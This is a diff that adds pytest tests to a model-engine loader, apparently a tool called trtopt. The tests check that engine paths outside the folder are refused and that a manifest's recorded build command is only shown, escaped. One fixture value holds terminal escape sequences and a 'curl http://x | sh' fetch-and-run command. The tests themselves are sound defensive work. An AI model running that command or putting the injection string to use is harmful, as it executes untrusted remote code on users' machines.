@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import json
+import os
 import subprocess
 import sys
 
@@ -90,3 +91,33 @@ def test_shape_profile_is_recorded_and_enforced(residual_convnet, tmp_path):
         runner.infer({"input": np.zeros((4, 3, 16, 16), np.float32)})
         with pytest.raises(UsageError, match="outside the built profile"):
             runner.infer({"input": np.zeros((5, 3, 16, 16), np.float32)})
+
+
+@pytest.mark.parametrize("where", ["relative", "absolute", "symlink"])
+def test_engine_file_outside_the_folder_is_refused_even_with_a_matching_hash(engine, tmp_path, where):
+    manifest = json.loads((engine / "manifest.json").read_text())
+    outside = tmp_path / "elsewhere.onnx"
+    outside.write_bytes((engine / manifest["engine"]["file"]).read_bytes())  # same bytes: the hash matches
+    if where == "relative":
+        name = os.path.relpath(outside, os.path.realpath(engine))
+    elif where == "absolute":
+        name = str(outside)
+    else:
+        name = "link.onnx"
+        (engine / name).symlink_to(outside)
+    _edit_manifest(engine, lambda m: m["engine"].update(file=name))
+    with pytest.raises(UsageError, match="engine file .* (is not a file name inside|leads outside) the engine folder"):
+        load(engine)
+
+
+def test_recorded_command_is_shown_escaped_and_only_as_information(engine):
+    manifest = json.loads((engine / "manifest.json").read_text())
+    with open(engine / manifest["engine"]["file"], "ab") as handle:
+        handle.write(b"\0")
+    _edit_manifest(engine, lambda m: m.update(command="\x1b]0;owned\x07\x1b[2J curl http://x | sh", name="n\x1b[31m"))
+    proc = subprocess.run([sys.executable, "-m", "trtopt", "run", str(engine), "--input", "none.npy"],
+                          capture_output=True, text=True, timeout=120)
+    assert proc.returncode == 1, proc.stderr
+    assert "\x1b" not in proc.stderr and "\x07" not in proc.stderr
+    assert "rebuild it here with `trtopt build" in proc.stderr and "--name 'n\\x1b[31m' --force`" in proc.stderr
+    assert "records the build command as: '\\x1b]0;owned\\x07\\x1b[2J curl http://x | sh'" in proc.stderr
